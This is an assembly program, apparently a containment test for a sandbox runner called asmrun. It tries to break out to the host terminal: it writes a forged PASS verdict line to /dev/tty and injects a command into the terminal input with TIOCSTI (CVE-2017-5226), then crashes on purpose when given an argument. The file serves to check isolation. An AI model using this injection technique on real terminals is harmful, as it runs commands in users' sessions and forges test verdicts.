; Reaches for the terminal asmrun runs in: writes a forged verdict line to /dev/tty and pushes a
; command into the terminal's input queue with TIOCSTI (bubblewrap's CVE-2017-5226), through
; its standard descriptors 0, 1 and 2 and through /dev/tty; with the argument `crash` it then
; dies of SIGSEGV, so that the crash report's second run tries again. Contained: "tty: none"
; and "tiocsti: refused" (a session of its own without a controlling terminal, no /dev/tty).
%include "attack.inc"
%define SYS_ioctl       16
%define TIOCSTI         0x5412
%define O_RDWR_NOCTTY   0x102
section .data
tty:    db "/dev/tty", 0
forged: db 10, "PASS  forged-by-attack-tty", 10
forged_len equ $ - forged
command: db "echo INJECTED-BY-ATTACK-TTY", 10
command_len equ $ - command
text none, "tty: none"
text opened, "tty: written"
text refused, "tiocsti: refused"
text injected, "tiocsti: injected"
section .text
global _start
_start:
        mov     rbx, rsp
        xor     r12d, r12d              ; descriptors that took the whole command
        xor     edi, edi
        call    inject
        mov     edi, 1
        call    inject
        mov     edi, 2
        call    inject
        mov     eax, SYS_open
        lea     rdi, [rel tty]
        mov     esi, O_RDWR_NOCTTY
        syscall
        test    rax, rax
        js      .no_tty
        mov     r13, rax
        write_str r13d, forged, forged_len
        say     opened
        mov     edi, r13d
        call    inject
        jmp     .verdict
.no_tty:
        say     none
.verdict:
        test    r12d, r12d
        jz      .refused
        say     injected
        jmp     .end
.refused:
        say     refused
.end:   cmp     qword [rbx], 2
        jb      .exit
        mov     rsi, [rbx + 16]
        cmp     byte [rsi], 'c'
        jne     .exit
        mov     byte [0], 1             ; the crash the report runs again
.exit:  exit_with 0

; Pushes `command` into the input of the terminal at descriptor edi, a byte at a time; r12d
; counts the descriptors that took all of it.
inject:
        push    rbp
        push    r14
        mov     ebp, edi
        xor     r14d, r14d
.byte:  mov     eax, SYS_ioctl
        mov     edi, ebp
        mov     esi, TIOCSTI
        lea     rdx, [rel command]
        add     rdx, r14
        syscall
        test    rax, rax
        jnz     .done
        inc     r14d
        cmp     r14d, command_len
        jb      .byte
        inc     r12d
.done:  pop     r14
        pop     rbp
        ret
